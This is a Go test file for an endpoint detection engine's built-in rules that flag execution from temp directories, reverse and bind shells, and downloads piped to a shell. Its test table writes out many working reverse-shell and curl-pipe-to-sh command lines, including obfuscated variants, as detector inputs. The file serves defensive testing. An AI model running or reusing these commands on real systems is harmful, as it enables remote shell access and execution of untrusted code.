package detectors

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cordon-edr/cordon/protocol/ecs"
)

func startEvent(exe, cmdline string) *ecs.Event {
	return &ecs.Event{
		Timestamp: time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC),
		Event:     ecs.Meta{Category: ecs.CategoryProcess, Type: ecs.TypeStart},
		Process: &ecs.Process{
			PID:         4242,
			Executable:  exe,
			CommandLine: cmdline,
			Args:        strings.Fields(cmdline),
		},
	}
}

func firedRules(ev *ecs.Event) []string {
	var ids []string
	for _, f := range NewEngine(Builtin()...).Process(ev) {
		ids = append(ids, f.Rule.ID)
	}
	return ids
}

func TestBuiltinRules(t *testing.T) {
	const (
		tmp  = RuleIDExecFromTempDir
		rev  = RuleIDShellToSocket
		pipe = RuleIDDownloadToShell
	)
	tests := []struct {
		name    string
		exe     string
		cmdline string
		want    []string
	}{
		// exec-from-temp-dir
		{"tmp", "/tmp/x", "/tmp/x", []string{tmp}},
		{"tmp subdir", "/tmp/.hidden/a/b", "b -d", []string{tmp}},
		{"var tmp", "/var/tmp/kworker", "[kworker/0:1]", []string{tmp}},
		{"dev shm", "/dev/shm/m/true", "/dev/shm/m/true", []string{tmp}},
		{"deleted", "/dev/shm/x (deleted)", "x", []string{tmp}},
		{"dot dot into tmp", "/usr/../tmp/x", "x", []string{tmp}},
		{"args fallback", "", "/var/tmp/x --flag", []string{tmp}},
		{"tmpwatch", "/usr/bin/tmpwatch", "tmpwatch 240 /tmp", nil},
		{"tmpfoo", "/tmpfoo/x", "/tmpfoo/x", nil},
		{"var tmpx", "/var/tmpx/y", "y", nil},
		{"dev shmem", "/dev/shmem/x", "x", nil},
		{"tmp itself", "/tmp", "/tmp", nil},
		{"upper case", "/TMP/x", "/TMP/x", nil},
		{"home tmp", "/home/u/tmp/x", "x", nil},
		{"dot dot out of tmp", "/tmp/../usr/bin/ls", "ls", nil},
		{"relative", "tmp/x", "tmp/x", nil},

		// shell-to-socket
		{"bash dev tcp", "/usr/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", []string{rev}},
		{"bash -c dev tcp", "/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'", []string{rev}},
		{"sh dev udp", "/usr/bin/sh", "sh -i >& /dev/udp/1.2.3.4/4444 0>&1", []string{rev}},
		{"no space", "/usr/bin/bash", "bash -i>&/dev/tcp/1.2.3.4/4444 0>&1", []string{rev}},
		{"extra space", "/usr/bin/bash", "bash   -i  >&   /dev/tcp/1.2.3.4/4444   0>&1", []string{rev}},
		{"interactive only", "/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/8080", []string{rev}},
		{"fd 196", "/usr/bin/bash", "bash -c '0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196'", []string{rev}},
		{"exec 5 read loop", "/usr/bin/bash", "bash -c 'exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done'", []string{rev}},
		{"login shell stdin dup", "/bin/bash", "/bin/bash -l > /dev/tcp/10.0.0.1/4242 0<&1 2>&1", []string{rev}},
		{"subshell stdin", "/bin/sh", "sh -c '(sh)0>/dev/tcp/10.0.0.1/4242'", []string{rev}},
		{"upper case", "/usr/bin/bash", "BASH -I >& /DEV/TCP/1.2.3.4/4444 0>&1", []string{rev}},
		{"ifs", "/usr/bin/bash", "bash${IFS}-i${IFS}>&${IFS}/dev/tcp/1.2.3.4/4444${IFS}0>&1", []string{rev}},
		{"quoted path", "/usr/bin/bash", `bash -c "bash -i >& /dev/t'c'p/1.2.3.4/4444 0>&1"`, []string{rev}},
		{"nc -e", "/usr/bin/nc.traditional", "nc -e /bin/sh 1.2.3.4 4444", []string{rev}},
		{"nc -e after host", "/usr/bin/nc", "nc 1.2.3.4 4444 -e /bin/bash", []string{rev}},
		{"nc bind", "/usr/bin/nc", "nc -lvp 4444 -e /bin/bash", []string{rev}},
		{"nc cluster", "/usr/bin/nc", "nc -nve/bin/sh 1.2.3.4 4444", []string{rev}},
		{"nc -c", "/usr/bin/nc", "nc -c bash 1.2.3.4 4444", []string{rev}},
		{"ncat exec", "/usr/bin/ncat", "ncat 1.2.3.4 4444 --exec /bin/sh", []string{rev}},
		{"ncat sh-exec", "/usr/bin/ncat", "ncat --sh-exec 'id; uname -a' 1.2.3.4 4444", []string{rev}},
		{"busybox nc", "/bin/busybox", "busybox nc 1.2.3.4 4444 -e sh", []string{rev}},
		{"disguised argv0", "/usr/bin/nc.openbsd", "kworker -e /bin/sh 1.2.3.4 4444", []string{rev}},
		{"nc in sh -c", "/bin/sh", "sh -c 'nc -e /bin/sh 1.2.3.4 4444'", []string{rev}},
		{"socat", "/usr/bin/socat", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", []string{rev}},
		{"socat bind", "/usr/bin/socat", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", []string{rev}},
		{"mkfifo nc", "/bin/sh", "sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'", []string{rev}},
		{"telnet sandwich", "/bin/sh", "sh -c 'telnet 10.0.0.1 4242 | /bin/bash | telnet 10.0.0.1 4243'", []string{rev}},
		{"openssl", "/bin/sh", "sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s'", []string{rev}},
		{"php fd", "/usr/bin/php", `php -r '$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'`, []string{rev}},
		{"grep dev tcp", "/usr/bin/grep", "grep /dev/tcp notes.txt", nil},
		{"port probe", "/usr/bin/bash", "timeout 1 bash -c 'echo > /dev/tcp/db/5432'", nil},
		{"http via dev tcp", "/usr/bin/bash", `bash -c 'exec 3<>/dev/tcp/example.com/80; echo -e "GET / HTTP/1.0\r\n\r\n" >&3; cat <&3'`, nil},
		{"nc probe", "/usr/bin/nc", "nc -zv db 5432", nil},
		{"nc send", "/bin/sh", "sh -c 'echo ruok | nc zk 2181'", nil},
		{"script to nc", "/bin/sh", "sh -c 'sh report.sh | nc metrics 2003'", nil},
		{"nc -c without shell", "/usr/bin/nc", "nc -C mail 25", nil},
		{"socat forward", "/usr/bin/socat", "socat tcp-listen:8080,fork tcp:backend:80", nil},
		{"socat exec no net", "/usr/bin/socat", "socat - exec:ls", nil},
		{"bash interactive", "/usr/bin/bash", "bash -i", nil},
		{"ncat listen", "/usr/bin/ncat", "ncat -l 8080 --keep-open", nil},
		{"ssh exec", "/usr/bin/ssh", "ssh -e none host", nil},

		// download-piped-to-shell
		{"curl sh", "/usr/bin/curl", "curl -s http://x/i.sh | sh", []string{pipe}},
		{"sh -c curl bash", "/bin/sh", `sh -c "curl -s http://x/i.sh | bash"`, []string{pipe}},
		{"wget bash", "/bin/sh", "sh -c 'wget -qO- http://x/i.sh | bash'", []string{pipe}},
		{"sudo bash", "/bin/bash", "bash -c 'curl http://x|sudo bash'", []string{pipe}},
		{"sudo -u", "/bin/bash", "bash -c 'curl -fsSL http://x | sudo -u root -E bash -s -- --yes'", []string{pipe}},
		{"stdin dash", "/bin/bash", "bash -c 'curl -fsSL http://x | sudo bash -'", []string{pipe}},
		{"through base64", "/bin/sh", "sh -c 'curl -s http://x | base64 -d | sh'", []string{pipe}},
		{"full paths", "/bin/sh", "/bin/sh -c '/usr/bin/curl -s http://x | /bin/bash'", []string{pipe}},
		{"busybox wget", "/bin/sh", "sh -c 'busybox wget -O- http://x | sh'", []string{pipe}},
		{"timeout wrapper", "/bin/sh", "sh -c 'timeout 10 curl -s http://x | env FOO=1 sh'", []string{pipe}},
		{"command substitution", "/bin/sh", `sh -c "$(curl -fsSL https://x/install.sh)"`, []string{pipe}},
		{"process substitution", "/bin/bash", "bash -c 'bash <(curl -s http://x)'", []string{pipe}},
		{"eval backticks", "/bin/bash", "bash -c 'eval `wget -qO- http://x`'", []string{pipe}},
		{"source", "/bin/bash", "bash -c 'source <(curl -s http://x)'", []string{pipe}},
		{"dev tcp read", "/bin/bash", "bash -c 'cat < /dev/tcp/10.0.0.1/80 | sh'", []string{pipe}},
		{"upper case", "/bin/sh", "sh -c 'CURL -s http://x | SH'", []string{pipe}},
		{"ifs", "/bin/sh", "sh -c 'curl${IFS}-s${IFS}http://x|sh'", []string{pipe}},
		{"sh -o pipefail", "/bin/bash", "bash -o pipefail -c 'curl -s http://x | bash'", []string{pipe}},
		{"curl -o", "/usr/bin/curl", "curl -o file http://x", nil},
		{"curl jq", "/bin/sh", "sh -c 'curl -s http://x | jq .'", nil},
		{"curl grep sh", "/bin/sh", "sh -c 'curl -s http://x | grep sh'", nil},
		{"wget then run later", "/bin/sh", "sh -c 'wget http://x/install.sh; echo done'", nil},
		{"cat to sh", "/bin/sh", "sh -c 'cat install.sh | sh'", nil},
		{"curl to sh -c", "/bin/sh", "sh -c 'curl -s http://x | sh -c \"cat > out\"'", nil},
		{"curl to script", "/bin/sh", "sh -c 'curl -s http://x | sh parse.sh'", nil},
		{"echo substitution", "/bin/sh", `sh -c 'echo "$(curl -s http://x/ip)"'`, nil},
		{"bash script with substitution", "/bin/bash", "bash -c 'bash run.sh $(curl -s http://x/v)'", nil},
		{"curl and sh separately", "/bin/sh", "sh -c 'curl -o i.sh http://x; sh i.sh'", nil},
		{"apt install curl", "/usr/bin/apt-get", "apt-get install -y curl", nil},

		// several rules at once
		{"tmp reverse shell", "/tmp/bash", "/tmp/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", []string{tmp, rev}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := firedRules(startEvent(tt.exe, tt.cmdline))
			if !slices.Equal(got, tt.want) {
				t.Errorf("exe %q cmdline %q: fired %v, want %v", tt.exe, tt.cmdline, got, tt.want)
			}
		})
	}
}

func TestBuiltinOnlyProcessStart(t *testing.T) {
	for _, meta := range []ecs.Meta{
		{Category: ecs.CategoryProcess, Type: ecs.TypeEnd},
		{Category: ecs.CategoryFile, Type: ecs.TypeCreation},
		{Category: ecs.CategoryNetwork, Type: ecs.TypeConnection},
	} {
		ev := startEvent("/tmp/x", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 | curl x | sh")
		ev.Event = meta
		if got := firedRules(ev); got != nil {
			t.Errorf("%+v: fired %v, want nothing", meta, got)
		}
	}
	if got := firedRules(&ecs.Event{Event: ecs.Meta{Category: ecs.CategoryProcess, Type: ecs.TypeStart}}); got != nil {
		t.Errorf("start event without process fired %v", got)
	}
}

func TestBuiltinRuleMetadata(t *testing.T) {
	seen := map[string]bool{}
	for _, d := range Builtin() {
		r := d.Rule()
		if seen[r.ID] {
			t.Errorf("duplicate rule id %s", r.ID)
		}
		seen[r.ID] = true
		if len(r.ID) != 36 || r.Name == "" || r.Version != "1" || r.Author != "Cordon" || r.License == "" {
			t.Errorf("incomplete rule %+v", r)
		}
		switch r.Severity {
		case SeverityLow, SeverityMedium, SeverityHigh, SeverityCritical:
		default:
			t.Errorf("rule %s: severity %q", r.ID, r.Severity)
		}
		if len(r.Tactics) == 0 || len(r.Techniques) == 0 || len(r.References) == 0 {
			t.Errorf("rule %s lacks tactics, techniques or references", r.ID)
		}
		for _, id := range r.Tactics {
			if !strings.HasPrefix(id, "TA") {
				t.Errorf("rule %s: tactic %q", r.ID, id)
			}
		}
		for _, id := range r.Techniques {
			if !strings.HasPrefix(id, "T") || strings.HasPrefix(id, "TA") {
				t.Errorf("rule %s: technique %q", r.ID, id)
			}
		}
	}
}

func TestSummary(t *testing.T) {
	long := "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 #" + strings.Repeat("é", 300)
	fs := NewEngine(Builtin()...).Process(startEvent("/usr/bin/bash", long+"\nx"))
	if len(fs) != 1 {
		t.Fatalf("got %d findings, want 1", len(fs))
	}
	s := fs[0].Summary
	for _, want := range []string{"/usr/bin/bash", "pid 4242", "/dev/tcp/1.2.3.4/4444"} {
		if !strings.Contains(s, want) {
			t.Errorf("summary %q lacks %q", s, want)
		}
	}
	if strings.ContainsAny(s, "\n\r") || !strings.HasSuffix(s, "…") || len(s) > 400 {
		t.Errorf("summary not cleaned and cut: %q", s)
	}
}
